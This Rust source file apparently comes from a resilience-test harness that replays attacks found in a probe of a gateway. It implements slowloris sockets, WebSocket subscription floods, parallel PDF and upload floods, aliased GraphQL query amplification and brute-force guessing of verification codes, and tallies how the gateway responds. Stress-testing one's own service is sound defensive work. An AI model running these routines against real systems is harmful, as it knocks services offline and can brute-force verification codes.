//! The attacks, as they were found in a probe of the gateway. Each runs until its target says
//! stop and counts what it got in the target's tally.

use std::{sync::Arc, time::Duration};

use futures_util::{SinkExt, StreamExt};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_tungstenite::tungstenite::{client::IntoClientRequest, Message};

use crate::{attacker, Target};

pub async fn run(phase: String, target: Arc<Target>) {
    match phase.as_str() {
        "slow_sockets" => slow_sockets(target, 5_000).await,
        "subscriptions_on_one_socket" => subscriptions(target, 10_000).await,
        "parallel_pdfs" => pdfs(target, 40).await,
        "aliased_address_searches" => searches(target, 10, 100).await,
        "large_uploads" => uploads(target, 30, 20 * 1024 * 1024).await,
        "verify_guesses" => guesses(target, 1_000, 50).await,
        _ => {
            while !target.stopped() {
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    }
}

fn client(n: u8) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(attacker(n))
        .timeout(Duration::from_secs(60))
        .build()
        .expect("client")
}

fn host_port(base: &str) -> std::net::SocketAddr {
    base.trim_start_matches("http://")
        .parse()
        .expect("base is http://ip:port")
}

/// Sockets that send a header line every 10 s and never finish the request; when the gateway
/// closes one, it comes back.
async fn slow_sockets(target: Arc<Target>, sockets: usize) {
    let address = host_port(&target.base);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..sockets {
        let target = target.clone();
        tasks.spawn(async move {
            while !target.stopped() {
                let socket = tokio::net::TcpSocket::new_v4().expect("socket");
                socket.bind((attacker(2), 0).into()).expect("bind");
                let Ok(Ok(mut stream)) =
                    tokio::time::timeout(Duration::from_secs(5), socket.connect(address)).await
                else {
                    target.tally.add("connect_failed");
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    continue;
                };
                target.tally.add("connected");
                if stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n").await.is_err() {
                    target.tally.add("closed_by_gateway");
                    continue;
                }
                let mut buf = [0u8; 512];
                loop {
                    tokio::select! {
                        read = stream.read(&mut buf) => {
                            if matches!(read, Ok(0) | Err(_)) {
                                target.tally.add("closed_by_gateway");
                                break;
                            }
                            target.tally.add("answered_by_gateway");
                        }
                        _ = tokio::time::sleep(Duration::from_secs(10)) => {
                            if stream.write_all(b"X-Slow: 1\r\n").await.is_err() {
                                target.tally.add("closed_by_gateway");
                                break;
                            }
                        }
                        _ = async { while !target.stopped() { tokio::time::sleep(Duration::from_millis(200)).await } } => return,
                    }
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// One anonymous WebSocket asking for `count` serverTime subscriptions.
async fn subscriptions(target: Arc<Target>, count: usize) {
    let address = host_port(&target.base);
    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
    socket.bind((attacker(3), 0).into()).expect("bind");
    let Ok(stream) = socket.connect(address).await else {
        target.tally.add("connect_failed");
        return;
    };
    let mut request = format!("ws://{address}/graphql")
        .into_client_request()
        .expect("request");
    request.headers_mut().insert(
        "sec-websocket-protocol",
        "graphql-transport-ws".parse().expect("header"),
    );
    let Ok((mut ws, _)) = tokio_tungstenite::client_async(request, stream).await else {
        target.tally.add("handshake_failed");
        return;
    };
    let _ = ws
        .send(Message::Text(
            json!({ "type": "connection_init" }).to_string().into(),
        ))
        .await;
    for i in 0..count {
        let subscribe = json!({ "id": i.to_string(), "type": "subscribe",
            "payload": { "query": "subscription { serverTime }" } });
        if ws
            .send(Message::Text(subscribe.to_string().into()))
            .await
            .is_err()
        {
            target.tally.add("send_failed");
            break;
        }
    }
    let mut live = std::collections::HashSet::new();
    while !target.stopped() {
        match tokio::time::timeout(Duration::from_millis(200), ws.next()).await {
            Ok(Some(Ok(Message::Text(text)))) => {
                let message: Value = serde_json::from_str(&text).unwrap_or_default();
                match message["type"].as_str() {
                    Some("next")
                        if live.insert(message["id"].as_str().unwrap_or("").to_owned()) =>
                    {
                        target.tally.add("subscriptions_running");
                    }
                    Some("error") => target.tally.add(format!(
                        "refused_{}",
                        message["payload"][0]["extensions"]["code"]
                            .as_str()
                            .unwrap_or("other")
                    )),
                    _ => {}
                }
            }
            Ok(Some(Ok(Message::Close(frame)))) => {
                target.tally.add(format!(
                    "closed_{}",
                    frame.map(|f| u16::from(f.code)).unwrap_or(0)
                ));
                return;
            }
            Ok(None) | Ok(Some(Err(_))) => return,
            _ => {}
        }
    }
}

async fn tally_status(target: &Target, response: Result<reqwest::Response, reqwest::Error>) {
    match response {
        Ok(r) => {
            let status = r.status().as_u16();
            let body = r.bytes().await.unwrap_or_default();
            let limited = body.windows(12).any(|w| w == b"RATE_LIMITED");
            let code = if status == 200 && body.windows(9).any(|w| w == b"\"errors\":") {
                if limited {
                    "200_rate_limited".to_owned()
                } else {
                    "200_with_errors".to_owned()
                }
            } else {
                status.to_string()
            };
            target.tally.add(format!("status_{code}"));
        }
        Err(_) => target.tally.add("failed"),
    }
}

/// Waves of parallel PDF requests of one document.
async fn pdfs(target: Arc<Target>, parallel: usize) {
    let http = client(4);
    let url = format!("{}&format=pdf", target.document_url);
    while !target.stopped() {
        let wave = (0..parallel).map(|_| {
            let (http, url, target) = (http.clone(), url.clone(), target.clone());
            async move { tally_status(&target, http.get(&url).send().await).await }
        });
        futures_util::future::join_all(wave).await;
        target.tally.add("waves");
    }
}

/// Clients sending one query with `aliases` address searches, back to back.
async fn searches(target: Arc<Target>, clients: usize, aliases: usize) {
    let fields: Vec<String> = (0..aliases)
        .map(|i| format!("a{i}: parcels(first: 50, filter: {{ addressContains: \"خیابان {i}\" }}) {{ totalCount nodes {{ address }} }}"))
        .collect();
    let body = json!({ "query": format!("{{ {} }}", fields.join(" ")) }).to_string();
    let http = client(5);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..clients {
        let (http, body, target) = (http.clone(), body.clone(), target.clone());
        tasks.spawn(async move {
            while !target.stopped() {
                let response = http
                    .post(format!("{}/graphql", target.base))
                    .bearer_auth(&target.searcher_token)
                    .header("content-type", "application/json")
                    .body(body.clone())
                    .send()
                    .await;
                tally_status(&target, response).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// Parallel uploads of `bytes` each (a PDF header, then zeros), again and again.
async fn uploads(target: Arc<Target>, parallel: usize, bytes: usize) {
    let mut file = b"%PDF-1.4\n".to_vec();
    file.resize(bytes, b'0');
    let file = bytes::Bytes::from(file);
    let http = client(6);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..parallel {
        let (http, file, target) = (http.clone(), file.clone(), target.clone());
        tasks.spawn(async move {
            while !target.stopped() {
                let part = reqwest::multipart::Part::stream(reqwest::Body::from(file.clone()))
                    .file_name("plan.pdf")
                    .mime_str("application/pdf")
                    .expect("mime");
                let form = reqwest::multipart::Form::new().part("file", part);
                let response = http
                    .post(format!("{}/uploads", target.base))
                    .bearer_auth(&target.citizen_token)
                    .multipart(form)
                    .send()
                    .await;
                tally_status(&target, response).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// `total` guesses of verification codes, `parallel` at a time.
async fn guesses(target: Arc<Target>, total: usize, parallel: usize) {
    let http = client(7);
    let next = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..parallel {
        let (http, target, next) = (http.clone(), target.clone(), next.clone());
        tasks.spawn(async move {
            while next.fetch_add(1, std::sync::atomic::Ordering::Relaxed) < total {
                let code: String = (0..10)
                    .map(|_| char::from(b'A' + rand::random::<u8>() % 26))
                    .collect();
                let response = http
                    .get(format!("{}/verify/{code}", target.base))
                    .header("accept", "application/json")
                    .send()
                    .await;
                tally_status(&target, response).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    while !target.stopped() {
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}
